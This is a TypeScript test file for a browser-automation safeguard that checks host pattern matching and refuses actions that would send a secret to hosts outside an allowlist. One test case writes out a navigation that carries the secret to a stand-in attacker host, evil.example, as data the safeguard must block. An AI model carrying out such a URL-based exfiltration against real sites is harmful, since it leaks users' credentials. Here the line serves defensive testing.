import { hostMatches, hostOf, secretHostRefusal } from './secretHosts';
import { type RunValues } from './values';

const values: RunValues = {
  parameters: { site: 'http://127.0.0.1:4100' },
  secrets: { key: 's3cret' },
  secretHosts: { key: ['127.0.0.1:4100', '*.shop.example'] },
};

describe('hostMatches', () => {
  it.each([
    ['127.0.0.1:4100', '127.0.0.1:4100', true],
    ['127.0.0.1:4101', '127.0.0.1:4100', false],
    ['127.0.0.1', '127.0.0.1:4100', false],
    ['a.shop.example', '*.shop.example', true],
    ['a.b.shop.example', '*.shop.example', true],
    ['shop.example', '*.shop.example', false],
    ['evilshop.example', '*.shop.example', false],
    ['shop.example', 'Shop.Example', true],
  ])('%s against %s: %s', (host, pattern, expected) => {
    expect(hostMatches(host, pattern)).toBe(expected);
  });
});

describe('secretHostRefusal', () => {
  const fill = {
    kind: 'fill',
    target: { locator: { by: 'css', selector: 'input' } },
    value: 'x{{key}}',
  } as const;
  it.each([
    ['a fill on an allowed page', fill, 'http://127.0.0.1:4100/login', false],
    ['a fill on another port', fill, 'http://127.0.0.1:4101/login', true],
    ['a fill on about:blank', fill, 'about:blank', true],
    ['a fill of a variable only', { ...fill, value: '{{site}}' }, 'http://evil.example/', false],
    [
      'a goto carrying it elsewhere',
      { kind: 'goto', url: 'http://evil.example/?k={{key}}' },
      'http://127.0.0.1:4100/',
      true,
    ],
    [
      'a goto carrying it to a subdomain',
      { kind: 'goto', url: 'https://a.shop.example/?k={{key}}' },
      'about:blank',
      false,
    ],
    [
      'a click, which sends nothing',
      { kind: 'click', target: { locator: { by: 'text', text: '{{key}}' } } },
      'http://evil.example/',
      false,
    ],
  ] as const)('%s: refused %s', (_name, action, pageUrl, refused) => {
    expect(secretHostRefusal(action, pageUrl, values) !== null).toBe(refused);
  });

  it('checks nothing when the run was given no hosts', () => {
    expect(secretHostRefusal(fill, 'http://evil.example/', { ...values, secretHosts: undefined })).toBeNull();
  });

  it('reads a host as a URL says it', () => {
    expect([hostOf('HTTP://Shop.Example:80/a'), hostOf('http://[::1]:8080/'), hostOf('nonsense')]).toEqual([
      'shop.example',
      '[::1]:8080',
      null,
    ]);
  });
});
